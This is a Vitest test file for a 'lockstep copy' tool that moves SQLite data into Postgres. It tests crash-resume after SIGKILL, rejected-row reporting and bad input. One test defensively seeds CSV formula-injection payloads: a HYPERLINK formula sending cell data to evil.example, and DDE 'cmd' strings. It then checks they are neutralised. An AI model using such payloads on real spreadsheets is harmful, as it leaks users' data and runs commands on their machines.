import { spawn } from 'node:child_process'
import { mkdtemp, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import Database from 'better-sqlite3'
import pg from 'pg'
import { lockstep, LOCKSTEP_BIN as BIN } from '@/lib/testing/lockstep-cli'
import { describe, expect, it } from 'vitest'
import { childEnv } from '@/lib/env'
import { createFreshDatabase } from '@/lib/testing/fresh-database'

// `lockstep copy` as a user runs it: the package's bin in a process of its own – killed with SIGKILL in the
// middle of a copy and run again, which must leave exactly the source's rows on the target.
/** The cells of an RFC 4180 CSV text, row by row. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const c = text[i]
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"'
      i++
    } else if (c === '"') quoted = !quoted
    else if (quoted || (c !== ',' && c !== '\n')) cell += c
    else {
      row.push(cell)
      cell = ''
      if (c === '\n') {
        rows.push(row)
        row = []
      }
    }
  }
  return rows
}

async function query<T extends pg.QueryResultRow>(url: string, sql: string): Promise<T[]> {
  const client = new pg.Client({ connectionString: url })
  await client.connect()
  try {
    return (await client.query<T>(sql)).rows
  } finally {
    await client.end()
  }
}

describe('lockstep copy', () => {
  it('survives a SIGKILL mid-copy: run again, it resumes after the last committed chunk and the target holds exactly the source rows', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'lockstep-copy-cli-'))
    const file = join(dir, 'events.db')
    const db = new Database(file)
    db.exec(
      `CREATE TABLE events (id INTEGER PRIMARY KEY, kind TEXT NOT NULL, payload TEXT, at DATETIME); CREATE TABLE tags (name TEXT, weight REAL)`,
    )
    db.transaction(() => {
      const insert = db.prepare('INSERT INTO events (kind, payload, at) VALUES (?, ?, ?)')
      for (let i = 0; i < 120_000; i++)
        insert.run(`kind ${i % 13}`, i % 5 ? `payload\t${i}\n${'x'.repeat(i % 40)}` : null, 1_700_000_000_000 + i)
      const tag = db.prepare('INSERT INTO tags VALUES (?, ?)')
      for (let i = 0; i < 5_000; i++) tag.run(`tag ${i % 100}`, i / 7) // no primary key: read in rowid ranges
    })()
    db.close()
    const url = `${await createFreshDatabase('copy_cli', { migrate: false })}?sslmode=disable`
    const args = ['copy', '--from', file, '--to', url, '--jobs', '2', '--chunk-rows', '2000']

    const child = spawn(process.execPath, [BIN, ...args], { env: childEnv({ DATABASE_URL: '' }), stdio: 'ignore' })
    // Kill it once some chunks have committed – well before the end.
    for (let i = 0; i < 600; i++) {
      await new Promise((r) => setTimeout(r, 50))
      const rows = await query<{ n: number }>(
        url,
        `SELECT coalesce(sum(rows_written), 0)::int AS n FROM lockstep.copy_part`,
      ).catch(() => [{ n: 0 }])
      if ((rows[0]?.n ?? 0) >= 10_000) break
    }
    child.kill('SIGKILL')
    await new Promise((r) => child.once('exit', r))
    const [partial] = await query<{ n: number }>(url, `SELECT sum(rows_written)::int AS n FROM lockstep.copy_part`)
    expect(partial?.n).toBeGreaterThanOrEqual(10_000)
    expect(partial?.n).toBeLessThan(125_000)

    const again = await lockstep([...args, '--json'])
    expect(again.code, again.stderr).toBe(0)
    const summary = JSON.parse(again.stdout) as {
      status: string
      tables: { table: string; written: number }[]
      peakRssMb: number
    }
    expect(summary.status).toBe('SUCCEEDED')
    expect(summary.tables.map((t) => [t.table, t.written])).toEqual([
      ['events', 120_000],
      ['tags', 5_000],
    ])
    // Exactly the source rows: every id once, the same content.
    const [events] = await query<{ n: number; ids: number; sum: string; hash: string }>(
      url,
      `SELECT count(*)::int AS n, count(DISTINCT id)::int AS ids, sum(id)::text AS sum, md5(string_agg(kind || coalesce(payload, '∅') || (extract(epoch FROM at) * 1000)::bigint, '|' ORDER BY id)) AS hash FROM events`,
    )
    const source = new Database(file, { readonly: true })
    const expected = source.prepare(`SELECT count(*) AS n, sum(id) AS sum FROM events`).get() as {
      n: number
      sum: number
    }
    const text = (
      source
        .prepare(`SELECT kind || coalesce(payload, '∅') || at AS t FROM events ORDER BY id`)
        .pluck()
        .all() as string[]
    ).join('|')
    const [tags] = await query<{ n: number; w: string }>(
      url,
      `SELECT count(*)::int AS n, sum(weight)::text AS w FROM tags`,
    )
    const expectedTags = source.prepare(`SELECT count(*) AS n, sum(weight) AS w FROM tags`).get() as {
      n: number
      w: number
    }
    source.close()
    const { createHash } = await import('node:crypto')
    expect(events).toEqual({
      n: expected.n,
      ids: expected.n,
      sum: String(expected.sum),
      hash: createHash('md5').update(text).digest('hex'),
    })
    expect(tags?.n).toBe(expectedTags.n)
    expect(Number(tags?.w)).toBeCloseTo(expectedTags.w, 6)

    // Finished: the same command again changes nothing.
    const third = await lockstep(args)
    expect(third.code).toBe(0)
    expect(third.stdout).toContain('Already copied')
  }, 180_000)

  it('fails on rejected rows unless --max-rejects allows them, naming the rows left behind, and writes rejected values that a spreadsheet would run as formulas to --rejects as text', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'lockstep-copy-rejects-'))
    const file = join(dir, 'people.db')
    const db = new Database(file)
    db.exec(
      'CREATE TABLE people (id INTEGER PRIMARY KEY, age INTEGER); CREATE TRIGGER people_touch AFTER UPDATE ON people BEGIN SELECT 1; END',
    )
    const hostile = [
      '=HYPERLINK("http://evil.example/?"&A1,"x")',
      "+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      '@SUM(1+1)',
      '\t=1+1',
      '\r=1+1',
      'forty',
    ]
    const insert = db.prepare('INSERT INTO people (id, age) VALUES (?, ?)')
    hostile.forEach((value, i) => insert.run(i + 1, value))
    insert.run(100, 42)
    db.close()
    const url = `${await createFreshDatabase('copy_rejects', { migrate: false })}?sslmode=disable`
    const csvFile = join(dir, 'rejects.csv')
    // No reject limit given: 0, like a plan step's – the copy fails, and says what was left behind and why.
    const strict = await lockstep(['copy', '--from', file, '--to', url, '--rejects', csvFile])
    expect(strict.code).toBe(1)
    expect(strict.stderr).toContain('left behind: 7 rows of people – age: ')
    expect(strict.stderr).toContain('(7 values)')
    expect(strict.stderr).toContain('more than the limit of 0')
    // Allowed by --max-rejects, the same copy resumes and finishes: exit 0, the rejects still named.
    const result = await lockstep(['copy', '--from', file, '--to', url, '--rejects', csvFile, '--max-rejects', '10'])
    // Every row is there but the trigger: exit 4, the trigger named with the reason.
    expect(result.code, result.stderr).toBe(4)
    expect(result.stderr).toContain('not copied: people: trigger people_touch – SQLite triggers are not translated')
    const { readFile } = await import('node:fs/promises')
    const csv = await readFile(csvFile, 'utf8')
    const rows = parseCsv(csv)
    expect(rows.map((row) => [row[0], row[1], row[2], row[4]])).toEqual([
      ...hostile.slice(0, 6).map((value, i) => ['people', String(i + 1), 'age', `'${value}`]),
      ['people', '7', 'age', 'forty'],
    ])
    // No cell of the file starts a formula: the reasons quote the value too.
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
  }, 60_000)

  it('refuses bad input with a clear message and changes nothing', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'lockstep-copy-bad-'))
    await writeFile(
      join(dir, 'notes.db'),
      'this is not a database at all, just text that is long enough to have a header',
    )
    const url = `${await createFreshDatabase('copy_bad', { migrate: false })}?sslmode=disable`
    const notSqlite = await lockstep(['copy', '--from', join(dir, 'notes.db'), '--to', url])
    expect(notSqlite.code).toBe(1)
    expect(notSqlite.stderr).toContain('is not a SQLite database')
    const missing = await lockstep(['copy', '--from', join(dir, 'missing.db'), '--to', url])
    expect(missing.stderr).toContain('no such file')
    const badUrl = await lockstep(['copy', '--from', join(dir, 'notes.db'), '--to', 'mysql://x'])
    expect(badUrl.code).toBe(2)
    expect(badUrl.stderr).toContain('--to must be a postgresql://')
    const noTable = new Database(join(dir, 'one.db'))
    noTable.exec('CREATE TABLE a (id INTEGER PRIMARY KEY)')
    noTable.close()
    const unknown = await lockstep(['copy', '--from', join(dir, 'one.db'), '--to', url, '--tables', 'a,zzz'])
    expect(unknown.code).toBe(1)
    expect(unknown.stderr).toContain('The source has no table “zzz”')
    expect(await query(url, `SELECT to_regclass('a')::text AS a, to_regclass('lockstep.copy')::text AS copy`)).toEqual([
      { a: null, copy: null },
    ])
  }, 60_000)
})
